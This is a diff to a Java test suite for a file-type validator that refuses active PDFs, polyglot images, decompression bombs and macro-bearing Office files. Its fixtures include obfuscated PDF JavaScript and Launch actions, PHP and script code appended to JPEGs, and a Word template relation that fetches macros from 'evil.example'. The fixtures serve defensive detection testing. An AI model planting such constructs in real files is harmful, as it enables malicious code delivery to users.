@@ -42,6 +42,30 @@ class FileTypesTest {
     assertThat(FileTypes.of(file(content), name)).isEqualTo(type);
   }
 
+  static Stream<Arguments> harmless() {
+    return Stream.of(
+            Files.pdf("2 0 obj <</OpenAction[3 0 R/Fit]/Title(JavaScript /JS \\) /Launch)>>"),
+            Files.pdf("2 0 obj <</S/GoTo>> endobj 3 0 obj <</S/URI/URI(https://example.org)>>"),
+            Files.pdf("2 0 obj <</Length 9>>\nstream\n(/JS) Tj \nendstream endobj"),
+            Files.packedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", "3 0 <</Type/Page>>"))
+        .map(Arguments::of);
+  }
+
+  @ParameterizedTest
+  @MethodSource("harmless")
+  void aPdfThatSpeaksOfScriptsHasNone(byte[] pdf) throws Exception {
+    assertThat(FileTypes.of(file(pdf), "letter.pdf")).isEqualTo(FileType.PDF);
+  }
+
+  @Test
+  void aTemplateOfTheWritersOwnComputerIsNoMacro() throws Exception {
+    byte[] letter =
+        Files.docx(
+            "word/_rels/settings.xml.rels",
+            "<Relationship Type=\"http://o/attachedTemplate\" Target=\"file:///C:\\a.dotm\"/>");
+    assertThat(FileTypes.of(file(letter), "letter.docx")).isEqualTo(FileType.DOCX);
+  }
+
   static Stream<Arguments> refused() {
     byte[] macroTypes =
         Files.zip(
@@ -101,6 +125,88 @@ class FileTypesTest {
         // Two files in one.
         Arguments.of("letter.pdf", Files.join(Files.bytes("GIF89a"), Files.pdf()), "type"),
         Arguments.of("letter.pdf", Files.join(Files.bytes("xx\n"), Files.pdf()), "type"),
+        // A PDF that does more than show pages.
+        Arguments.of(
+            "letter.pdf", Files.pdf("2 0 obj <</S/JavaScript/JS(app.alert(1))>>"), "active"),
+        Arguments.of("letter.pdf", Files.pdf("2 0 obj <</S /J#61vaScript>>"), "active"),
+        Arguments.of(
+            "letter.pdf", Files.pdf("2 0 obj <</OpenAction<</S/Launch/F(a.exe)>>>>"), "active"),
+        Arguments.of("letter.pdf", Files.pdf("2 0 obj <</Type/EmbeddedFile>>"), "active"),
+        Arguments.of(
+            "letter.pdf", Files.pdf("2 0 obj <</Names<</EmbeddedFiles 3 0 R>>>>"), "active"),
+        Arguments.of("letter.pdf", Files.pdf("2 0 obj <</XFA 3 0 R>>"), "active"),
+        Arguments.of("letter.pdf", Files.pdf("2 0 obj <</S/SubmitForm>>"), "active"),
+        Arguments.of(
+            "letter.pdf",
+            Files.pdf("2 0 obj <<>>\nstream\n3 0 obj <</S/JavaScript>> endobj\nendstream"),
+            "active"),
+        Arguments.of("letter.pdf", Files.pdf("% 3 0 obj <</S/JavaScript>>"), "active"),
+        Arguments.of("letter.pdf", Files.pdf("2 0 obj (x 3 0 obj <</JS 4 0 R>>)"), "active"),
+        Arguments.of(
+            "letter.pdf",
+            Files.packedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", "3 0 <</S/JavaScript>>"),
+            "active"),
+        Arguments.of(
+            "letter.pdf",
+            Files.packedPdf("/N 1/First 4/Filter[/FlateDecode]", "3 0 <</#4aS 5 0 R>>"),
+            "active"),
+        Arguments.of(
+            "letter.pdf",
+            Files.packedPdf("/Type/ObjStm/N 1/First 4/Filter[/LZWDecode]", "3 0 <<>>"),
+            "unjudged"),
+        Arguments.of(
+            "letter.pdf",
+            Files.packedPdf("/Type/ObjStm/N 1/First 4/Filter 7 0 R", "3 0 <<>>"),
+            "unjudged"),
+        Arguments.of(
+            "letter.pdf",
+            Files.packedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", " ".repeat(70 << 20)),
+            "bomb"),
+        Arguments.of("letter.pdf", Files.pdf("trailer <</Encrypt 5 0 R>>"), "protected"),
+        // Archives, scripts and documents behind or within something else.
+        Arguments.of("letter.pdf", Files.join(Files.pdf(), Files.zip("a", "b")), "several.kinds"),
+        Arguments.of("photo.jpg", Files.join(Files.jpeg(), Files.docx()), "several.kinds"),
+        Arguments.of("map.png", Files.join(Files.png(), Files.zip("a", "b")), "several.kinds"),
+        Arguments.of("map.png", Files.join(Files.png(), Files.bytes("more")), "several.kinds"),
+        Arguments.of(
+            "photo.jpg",
+            Files.join(Files.jpeg(), Files.bytes("Rar!\u001A\u0007\0")),
+            "several.kinds"),
+        Arguments.of(
+            "photo.jpg",
+            Files.join(Files.jpeg(), Files.bytes("<?php system(1); ?>")),
+            "several.kinds"),
+        Arguments.of(
+            "photo.jpg",
+            Files.join(Files.jpeg(), Files.bytes("<ScRiPt >1</script>")),
+            "several.kinds"),
+        Arguments.of(
+            "photo.jpg",
+            Files.join(
+                new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0},
+                Files.bytes("/*JFIF*/=alert(1)")),
+            "several.kinds"),
+        Arguments.of(
+            "letter.odt",
+            Files.zip("mimetype", "%PDF-1.4 application/vnd.oasis.opendocument.text"),
+            "type"),
+        Arguments.of(
+            "letter.pdf",
+            Files.bytes("%PDF-1.7\n<html><script>1</script></html>\n1 0 obj <<>> endobj\n%%EOF"),
+            "several.kinds"),
+        // Office documents that run something which is not in them.
+        Arguments.of("letter.docx", Files.docx("word/embeddings/a.docm", "x"), "macros"),
+        Arguments.of(
+            "letter.docx",
+            Files.docx(
+                "word/_rels/settings.xml.rels",
+                "<Relationships><Relationship Id=\"r1\" Type=\"http://o/attachedTemplate\""
+                    + " Target='https://evil.example/a.dotm' TargetMode=\"External\"/>"),
+            "macros"),
+        Arguments.of(
+            "letter.odt",
+            Files.odf("text", "styles.xml", "<a href=\"vnd.sun.star.script:a.py$b\"/>"),
+            "macros"),
         Arguments.of("note.txt", binaryAtTheEnd(), "text"),
         Arguments.of("note.txt", "bonjour".getBytes(StandardCharsets.UTF_16), "text"));
   }
